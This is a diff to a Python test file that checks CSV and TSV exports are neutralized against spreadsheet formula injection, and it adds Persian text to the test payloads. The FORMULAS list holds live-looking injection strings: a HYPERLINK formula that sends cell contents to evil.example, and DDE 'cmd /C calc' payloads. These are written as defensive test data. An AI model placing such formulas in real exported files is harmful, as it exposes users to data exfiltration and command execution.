@@ -19,9 +19,10 @@ from catalog import csvsafe
 from catalog.store.falkordb_server import FalkorServer
 from tests.support.robustness import BASE, World, build_world
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
-            "=1+1", "\uff1d1+1", "-", "@"]
+# Stored as Persian titles, so each holds a Persian letter (ADR 0025) after its formula sign.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"کلیک")', "+cmd|' /C calc'!A0 ثبت",
+            "-2+3+cmd|' /C calc'!A0 ثبت", "@SUM(1+1)*cmd|' /C calc'!A0 ثبت", "\t=1+1 ثبت",
+            "\r=1+1 ثبت", "=1+1 ثبت", "\uff1d1+1 ثبت", "-", "@"]
 
 
 def test_neutralize() -> None:
@@ -108,7 +109,7 @@ def test_sparql_csv_and_tsv_are_neutralized(world: World) -> None:
     # the TSV is still the same literals to an RDF reader
     g = Graph().parse(data="\n".join(f"<{BASE}s> <{BASE}p> {t} ." for t in lines), format="nt")
     assert {str(o) for o in g.objects()} >= {f for f in FORMULAS[:8] if f.strip() == f
-                                             or f.startswith("\t")} - {"\t=1+1"}
+                                             or f.startswith("\t")} - {FORMULAS[4]}
 
 
 def test_the_monitoring_report_is_neutralized(world: World, tmp_path: Path) -> None:
